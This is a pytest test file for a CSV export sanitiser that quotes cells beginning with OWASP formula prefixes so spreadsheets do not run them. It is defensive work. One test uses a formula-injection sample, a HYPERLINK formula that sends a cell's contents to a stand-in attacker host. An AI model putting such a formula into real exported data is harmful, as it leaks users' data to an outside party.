"""core.csv_safe: cells a spreadsheet would take for a formula are quoted (OWASP), other
values are left alone."""

import datetime

import pytest

from espace_citoyen.core.csv_safe import FORMULA_PREFIXES, csv_cell, safe_row


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_formula_prefix_is_quoted(prefix):
    assert csv_cell(prefix + "SUM(A1:A9)") == "'" + prefix + "SUM(A1:A9)"


def test_prefixes_are_the_owasp_ones():
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")


def test_hyperlink_formula():
    value = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    assert csv_cell(value) == "'" + value


def test_negative_number_as_text_is_quoted_but_numbers_are_not():
    assert csv_cell("-3") == "'-3"  # acceptable: shown as text in the spreadsheet
    assert csv_cell(-3) == -3
    assert csv_cell(-2.5) == -2.5


@pytest.mark.parametrize("value", [None, "", "Chloé", "Arachide et fruits à coque.", " =1+1", "'=1+1", "06 12 34 56 78",
                                   "Dr Lambert", "— ", "–1", 0, True, datetime.date(2026, 12, 7)])
def test_other_values_unchanged(value):
    assert csv_cell(value) is value


def test_only_the_first_character_counts():
    assert csv_cell("Allergie = arachide") == "Allergie = arachide"
    assert csv_cell("a@b.fr") == "a@b.fr"


def test_safe_row():
    row = safe_row(iter(["Bernard", "=1+1", None, 3, "+33 6 12 34 56 78", "@SUM(A1)"]))
    assert row == ["Bernard", "'=1+1", None, 3, "'+33 6 12 34 56 78", "'@SUM(A1)"]
    assert isinstance(row, list)
    assert safe_row([]) == []
